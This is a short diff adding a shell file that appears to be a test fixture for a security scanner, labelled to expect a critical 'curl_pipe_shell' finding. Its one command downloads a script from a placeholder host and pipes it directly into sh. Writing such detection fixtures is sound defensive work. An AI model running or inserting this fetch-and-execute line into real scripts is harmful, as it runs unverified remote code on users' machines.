@@ -1,0 +1,3 @@
+# expect: shell.curl_pipe_shell critical
+#!/bin/sh
+curl -s https://get.example.net/i.sh | sh /dev/stdin
